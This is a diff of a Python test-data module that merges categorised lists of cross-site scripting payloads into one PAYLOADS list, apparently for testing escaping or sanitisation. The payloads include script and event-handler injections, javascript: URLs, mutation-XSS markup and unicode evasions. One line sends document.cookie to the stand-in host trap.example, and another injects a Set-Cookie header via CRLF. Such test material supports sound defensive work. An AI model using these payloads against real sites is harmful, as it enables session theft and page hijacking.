@@ -4,22 +4,19 @@ Each of them would call `pwned`, ask for something at `trap.example`, or leave
 something behind in the page, if anything in it were taken for markup or code.
 """
 
-SCRIPTS = [
+PAYLOADS = [
+    # Scripts
     "<script>pwned()</script>",
-    "<SCRIPT>pwned()</SCRIPT>",
     "<scr<script>ipt>pwned()</scr</script>ipt>",
     "<script src=//trap.example/x></script>",
     "<script type=module>pwned()</script>",
     '<script type=module>import "//trap.example/x"</script>',
     '<script type="importmap">{"imports":{"htm":"//trap.example/x"}}</script>',
     "<script>fetch('//trap.example/'+document.cookie)</script>",
-    "<script\n>pwned()</script\n>",
-    "<script/x>pwned()</script/x>",
     "</script><script>pwned()</script>",
     '"}</script><script>pwned()</script>',
     "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
     "&lt;script&gt;pwned()&lt;/script&gt;",
-    "&#60;script&#62;pwned()&#60;/script&#62;",
     "%3Cscript%3Epwned()%3C/script%3E",
     "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
     "<!--<script>pwned()</script>-->",
@@ -27,48 +24,32 @@ SCRIPTS = [
     "<noscript><script>pwned()</script></noscript>",
     "]]><script>pwned()</script>",
     "*/</style><script>pwned()</script>",
-]
-HANDLERS = [
+    # Event handlers
     "<img src=x onerror=pwned()>",
-    "<IMG SRC=x ONERROR=pwned()>",
     "<img/src=x/onerror=pwned()>",
     "<img src=x onerror='pwned()'//",
     "<img src=x:x onerror\n=\npwned()>",
     "<img src onerror=pwned()",
     '<img """><script>pwned()</script>">',
-    "<img src=//trap.example/x.png>",
     "<img srcset=//trap.example/x.png>",
-    "<image src=x onerror=pwned()>",
-    "<body onload=pwned()>",
     "<b onmouseover=pwned()>b</b>",
-    "<b onpointerenter=pwned()>b",
     "<a onclick=pwned() href=#>a</a>",
     "<input autofocus onfocus=pwned()>",
-    "<p tabindex=1 onfocus=pwned() id=x>",
     "<details open ontoggle=pwned()>",
-    "<dialog open onclose=pwned()>",
     "<video src=x onerror=pwned()>",
     "<video><source onerror=pwned()>",
-    "<audio src=//trap.example/x autoplay>",
-    "<marquee onstart=pwned()>x</marquee>",
     "<p style=animation:rise onanimationend=pwned()>",
-    "<p popover id=p onbeforetoggle=pwned()>",
     '" onmouseover="pwned()" x="',
-    "' onmouseover='pwned()' x='",
     '" autofocus onfocus=pwned() "',
     "x onerror=pwned()",
     "` onerror=pwned() `",
     '"><img src=x onerror=pwned()>',
-    "'><img src=x onerror=pwned()>",
     "--><img src=x onerror=pwned()>",
     "</p></article><img src=x onerror=pwned()>",
     "</title><img src=x onerror=pwned()>",
     "</textarea><img src=x onerror=pwned()>",
-    "</style><img src=x onerror=pwned()>",
-]
-SVG = [
+    # SVG and MathML
     "<svg onload=pwned()>",
-    "<svg/onload=pwned()>",
     "<svg><script>pwned()</script></svg>",
     "<svg><script href=//trap.example/x /></svg>",
     "<svg><animate onbegin=pwned() attributeName=x>",
@@ -79,8 +60,7 @@ SVG = [
     "<math><mtext><img src=x onerror=pwned()>",
     "<math href=javascript:pwned()>x</math>",
     "<?xml version='1.0'?><svg onload='pwned()'/>",
-]
-FRAMES = [
+    # Frames, style sheets and forms
     "<iframe src=javascript:pwned()>",
     "<iframe srcdoc='<script>parent.pwned()</script>'>",
     "<iframe src=//trap.example/></iframe>",
@@ -89,24 +69,20 @@ FRAMES = [
     "<embed src=//trap.example/>",
     "<frameset onload=pwned()>",
     "<portal src=//trap.example/>",
-    "<base href=//trap.example/>",
     "<link rel=stylesheet href=//trap.example/>",
     "<link rel=preload as=script href=//trap.example/>",
     "<style>@import'//trap.example/'</style>",
     "<style>*{background:url(//trap.example/)}",
     "<p style=background:url(//trap.example/)>",
     "<meta http-equiv=refresh content='0;//trap.example/'>",
-    "<meta http-equiv=refresh content='0;javascript:pwned()'>",
     "<form action=//trap.example/><button>Send</button></form>",
     "<form id=page><input name=textContent></form>",
     "<a id=data><a id=data name=textContent>",
     "<button formaction=javascript:pwned()>Send</button>",
     "<template shadowrootmode=open><script>pwned()</script></template>",
     "<x-pwned is=pwned></x-pwned>",
-]
-ADDRESSES = [
+    # Addresses
     "javascript:pwned()",
-    "JaVaScRiPt:pwned()",
     "java\tscript:pwned()",
     "\x01javascript:pwned()",
     "javascript://trap.example/%0apwned()",
@@ -121,8 +97,7 @@ ADDRESSES = [
     "[a](javascript:pwned())",
     "![a](https://trap.example/x.png)",
     "<javascript:pwned()>",
-]
-TEMPLATES = [
+    # Templates
     "${pwned()}",
     "`${pwned()}`",
     "${html`<img onerror=${pwned()}>`}",
@@ -138,10 +113,8 @@ TEMPLATES = [
     "%(message)s {0} {user!r}",
     "$& $1 $` $'",
     "[[${pwned()}]]",
-    "{pwned()}",
     "</>${pwned()}<>",
-]
-OBJECTS = [
+    # JSON and objects
     '{"__html":"<img src=x onerror=pwned()>"}',
     '{"dangerouslySetInnerHTML":{"__html":"<b>"}}',
     '{"type":"script","props":{"src":"//trap.example/x"}}',
@@ -160,8 +133,7 @@ OBJECTS = [
     "\\",
     '\\"',
     "\\u0022,pwned()//",
-]
-MUTATIONS = [
+    # Markup that parsers move
     "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
     "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
     "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>",
@@ -173,8 +145,7 @@ MUTATIONS = [
     "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
     "<plaintext><img src=x onerror=pwned()>",
     "<title><a title='</title><img src=x onerror=pwned()>'>",
-]
-LETTERS = [
+    # Odd letters
     "＜script＞pwned()＜/script＞",
     "‹script›pwned()‹/script›",
     "〈img src=x onerror=pwned()〉",
@@ -187,7 +158,6 @@ LETTERS = [
     "עברית <b onclick=pwned()> عربي",
     "\ufeff<script>pwned()</script>",
     "<scr\u00adipt>pwned()</scr\u00adipt>",
-    "<script>\u2028pwned()\u2029</script>",
     "<img src=x\u00a0onerror=pwned()>",
     "<s\u0301cript>pwned()</s\u0301cript>",
     "Z̸̢a̷l̶g̵o̶<img src=x onerror=pwned()>",
@@ -196,19 +166,6 @@ LETTERS = [
     "<\x00script>pwned()</\x00script>",
     "<img src=x one\x00rror=pwned()>",
     "\x1b[2J\x1b]0;pwned\x07<b>",
-    "<img\x0csrc=x\x0conerror=pwned()>",
     "\xff\xfe<\x80script>pwned()",
     "\r\nSet-Cookie: pwned=1\r\n\r\n<script>pwned()</script>",
-]
-
-PAYLOADS = [
-    *SCRIPTS,
-    *HANDLERS,
-    *SVG,
-    *FRAMES,
-    *ADDRESSES,
-    *TEMPLATES,
-    *OBJECTS,
-    *MUTATIONS,
-    *LETTERS,
 ]
